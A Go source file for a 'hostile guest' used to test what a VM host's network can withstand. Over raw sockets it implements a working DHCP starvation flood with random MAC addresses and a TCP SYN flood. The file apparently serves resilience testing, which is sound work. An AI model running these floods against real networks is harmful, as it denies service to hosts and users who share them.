package main

import (
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"syscall"
)

// A hostile guest, for tests of what the host's network holds: raw frames
// on eth0 that no well-behaved guest sends at this rate.

// rawLink is an AF_PACKET socket bound to one interface.
type rawLink struct {
	fd  int
	mac net.HardwareAddr
}

func openRawLink(name string) (*rawLink, error) {
	ifi, err := net.InterfaceByName(name)
	if err != nil {
		return nil, err
	}
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(syscall.ETH_P_ALL)))
	if err != nil {
		return nil, fmt.Errorf("raw socket: %w", err)
	}
	if err := syscall.Bind(fd, &syscall.SockaddrLinklayer{Protocol: htons(syscall.ETH_P_ALL), Ifindex: ifi.Index}); err != nil {
		syscall.Close(fd)
		return nil, fmt.Errorf("binding to %s: %w", name, err)
	}
	return &rawLink{fd: fd, mac: ifi.HardwareAddr}, nil
}

func (l *rawLink) send(frame []byte) error {
	_, err := syscall.Write(l.fd, frame)
	return err
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// dhcpFlood sends n DHCP messages from random MAC addresses, DISCOVERs and
// REQUESTs for 10.0.2.15 in turn (a REQUEST that is acknowledged makes a
// lease).
func dhcpFlood(n int) error {
	l, err := openRawLink("eth0")
	if err != nil {
		return err
	}
	frame := make([]byte, 14+20+8+300)
	for i := 0; i < n; i++ {
		var mac [6]byte
		rand.Read(mac[:])
		mac[0] = mac[0]&0xfe | 0x02 // unicast, locally administered
		kind := byte(1)             // DISCOVER
		if i%2 == 1 {
			kind = 3 // REQUEST
		}
		clear(frame)
		eth := frame[:14]
		copy(eth[0:6], []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
		copy(eth[6:12], mac[:])
		binary.BigEndian.PutUint16(eth[12:], 0x0800)
		bootp := frame[14+20+8:]
		bootp[0], bootp[1], bootp[2] = 1, 1, 6 // BOOTREQUEST, Ethernet, hlen
		rand.Read(bootp[4:8])                  // xid
		copy(bootp[28:34], mac[:])             // chaddr
		opts := bootp[236:]
		copy(opts, []byte{99, 130, 83, 99, 53, 1, kind})
		o := opts[7:]
		if kind == 3 {
			copy(o, []byte{50, 4, 10, 0, 2, 15, 54, 4, 10, 0, 2, 2})
			o = o[12:]
		}
		o[0] = 255
		udpIP(frame[14:], netip.IPv4Unspecified(), netip.AddrFrom4([4]byte{255, 255, 255, 255}), 68, 67, len(bootp))
		if err := l.send(frame); err != nil {
			return fmt.Errorf("frame %d: %w", i, err)
		}
	}
	return nil
}

// udpIP writes an IPv4 and UDP header before a payload of n bytes (no UDP
// checksum, which IPv4 allows).
func udpIP(b []byte, src, dst netip.Addr, sport, dport, n int) {
	ipHeader(b, src, dst, 17, 8+n)
	u := b[20:28]
	binary.BigEndian.PutUint16(u[0:], uint16(sport))
	binary.BigEndian.PutUint16(u[2:], uint16(dport))
	binary.BigEndian.PutUint16(u[4:], uint16(8+n))
	binary.BigEndian.PutUint16(u[6:], 0)
}

func ipHeader(b []byte, src, dst netip.Addr, proto byte, payload int) {
	h := b[:20]
	h[0], h[1] = 0x45, 0
	binary.BigEndian.PutUint16(h[2:], uint16(20+payload))
	binary.BigEndian.PutUint16(h[4:], 0)
	binary.BigEndian.PutUint16(h[6:], 0x4000) // don't fragment
	h[8], h[9] = 64, proto
	binary.BigEndian.PutUint16(h[10:], 0)
	s, d := src.As4(), dst.As4()
	copy(h[12:16], s[:])
	copy(h[16:20], d[:])
	binary.BigEndian.PutUint16(h[10:], checksum(h, 0))
}

func checksum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// synFlood sends n TCP SYNs to addr from the guest's address, each from a
// random source port, and never answers the SYN-ACKs.
func synFlood(n int, addr string) error {
	dst, err := netip.ParseAddrPort(addr)
	if err != nil {
		return err
	}
	l, err := openRawLink("eth0")
	if err != nil {
		return err
	}
	gw, err := neighbour(dst.Addr())
	if err != nil {
		return err
	}
	src := netip.AddrFrom4([4]byte{10, 0, 2, 15})
	frame := make([]byte, 14+20+20)
	for i := 0; i < n; i++ {
		clear(frame)
		copy(frame[0:6], gw)
		copy(frame[6:12], l.mac)
		binary.BigEndian.PutUint16(frame[12:], 0x0800)
		ipHeader(frame[14:], src, dst.Addr(), 6, 20)
		t := frame[34:]
		var r [6]byte
		rand.Read(r[:])
		binary.BigEndian.PutUint16(t[0:], 1024+binary.BigEndian.Uint16(r[0:])%60000)
		binary.BigEndian.PutUint16(t[2:], dst.Port())
		copy(t[4:8], r[2:6]) // sequence number
		t[12] = 5 << 4       // header length
		t[13] = 0x02         // SYN
		binary.BigEndian.PutUint16(t[14:], 65535)
		// The checksum covers a pseudo-header of the addresses.
		s, d := src.As4(), dst.Addr().As4()
		var sum uint32
		for _, w := range [][]byte{s[:], d[:]} {
			sum += uint32(binary.BigEndian.Uint16(w)) + uint32(binary.BigEndian.Uint16(w[2:]))
		}
		sum += 6 + 20
		binary.BigEndian.PutUint16(t[16:], checksum(t[:20], sum))
		if err := l.send(frame); err != nil {
			return fmt.Errorf("frame %d: %w", i, err)
		}
	}
	return nil
}

// neighbour returns the link address of ip from the guest's ARP table,
// after a connection attempt that makes the kernel resolve it.
func neighbour(ip netip.Addr) (net.HardwareAddr, error) {
	if c, err := net.Dial("tcp", netip.AddrPortFrom(ip, 9).String()); err == nil {
		c.Close()
	}
	data, err := os.ReadFile("/proc/net/arp")
	if err != nil {
		return nil, err
	}
	for _, line := range strings.Split(string(data), "\n") {
		f := strings.Fields(line)
		if len(f) >= 4 && f[0] == ip.String() {
			return net.ParseMAC(f[3])
		}
	}
	return nil, fmt.Errorf("no link address for %s", ip)
}
